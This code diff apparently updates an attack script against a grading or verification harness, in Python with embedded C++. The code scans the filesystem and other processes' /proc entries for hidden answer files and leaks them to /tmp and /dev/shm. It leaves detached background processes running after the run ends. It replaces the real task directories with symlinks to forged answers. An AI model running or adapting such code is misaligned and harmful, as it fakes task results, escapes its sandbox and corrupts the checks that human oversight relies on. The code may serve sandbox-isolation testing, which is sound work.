@@ -56,12 +56,12 @@ def grab(p):
     except (OSError, ValueError):
         pass
 here = os.getcwd()
-names = [".vr-task/answer.txt", "answer.txt", "../answer.txt", os.path.expanduser("~/.vr-task/answer.txt"),
+names = [".vr-check/answer.txt", ".vr-task/answer.txt", "answer.txt", "../answer.txt", os.path.expanduser("~/.vr-check/answer.txt"),
          "/tmp/leak", "/dev/shm/leak", here + "/leak", here + "/../leak"]
 for p in names:
     grab(p)
-for pat in [os.path.dirname(here) + "/*/*", os.path.dirname(here) + "/*/.vr-task/*", here + "/**",
-            os.path.dirname(here) + "-cache/*/*", "/tmp/**", "/dev/shm/**", "/proc/*/cwd/*", "/proc/*/cwd/.vr-task/*",
+for pat in [os.path.dirname(here) + "/*/*", os.path.dirname(here) + "/*/.vr-*/*", here + "/**", here + "/.vr-*/*",
+            os.path.dirname(here) + "-cache/*/*", "/tmp/**", "/dev/shm/**", "/proc/*/cwd/*", "/proc/*/cwd/.vr-*/*",
             "/proc/*/fd/*", "/proc/*/cmdline"]:
     for p in glob.glob(pat, recursive=True)[:300]:
         grab(p)
@@ -74,7 +74,7 @@ if os.fork() == 0:  # left behind: waits for the answer file and leaks it for th
         os.dup2(null, fd)  # the run ends when its output pipes close: this one lets them
     if os.fork() == 0:
         for _ in range(200):
-            for p in glob.glob(here + "/.vr-task/*") + glob.glob("/proc/*/cwd/*"):
+            for p in glob.glob(here + "/.vr-*/*") + glob.glob("/proc/*/cwd/*"):
                 try:
                     data = open(p).read(4096)
                 except OSError:
@@ -97,10 +97,10 @@ READ_ANSWER_CPP = r'''
 std::string grab(const char* pat){ glob_t g; std::string r; if(glob(pat,0,nullptr,&g)==0){ for(size_t i=0;i<g.gl_pathc;i++){
   std::ifstream f(g.gl_pathv[i]); std::string t; while(f>>t) if(t.size()==32) r=t; } } globfree(&g); return r; }
 int main(){
-  const char* pats[]={".vr-task/*","/tmp/*","/dev/shm/*","/proc/*/cwd/*","/proc/*/cwd/.vr-task/*","../*/.vr-task/*"};
+  const char* pats[]={".vr-check/*",".vr-task/*","/tmp/*","/dev/shm/*","/proc/*/cwd/*","/proc/*/cwd/.vr-*/*","../*/.vr-*/*"};
   std::string best; for(auto p:pats){ std::string r=grab(p); if(!r.empty()) best=r; }
   std::cout<<(best.empty()?"nothing":best)<<std::endl;
-  if(fork()==0){ setsid(); int null=open("/dev/null",O_RDWR); dup2(null,0); dup2(null,1); dup2(null,2); for(int i=0;i<300;i++){ std::string r=grab(".vr-task/*"); if(r.empty()) r=grab("/proc/*/cwd/*");
+  if(fork()==0){ setsid(); int null=open("/dev/null",O_RDWR); dup2(null,0); dup2(null,1); dup2(null,2); for(int i=0;i<300;i++){ std::string r=grab(".vr-check/*"); if(r.empty()) r=grab("/proc/*/cwd/*");
       if(!r.empty()){ std::ofstream("/dev/shm/leak")<<r; std::ofstream("/tmp/leak")<<r; } usleep(10000);} _exit(0); } }
 '''
 
@@ -118,10 +118,15 @@ os.makedirs(here + "/mine", exist_ok=True)
 for name in ("answer.txt", "output.txt", "input.txt"):
     with open(here + "/mine/" + name, "w") as f:
         f.write("forged\n")
-try:
-    os.symlink(here + "/mine", here + "/.vr-task")  # where the task directory is made
-except OSError:
-    pass
+for name in (".vr-check", ".vr-task"):  # where the task directories are (kept between tests) or made
+    try:
+        os.rename(here + "/" + name, here + "/stolen" + name)
+    except OSError:
+        pass
+    try:
+        os.symlink(here + "/mine", here + "/" + name)
+    except OSError:
+        pass
 try:
     os.chmod(here, 0o777)
 except OSError:
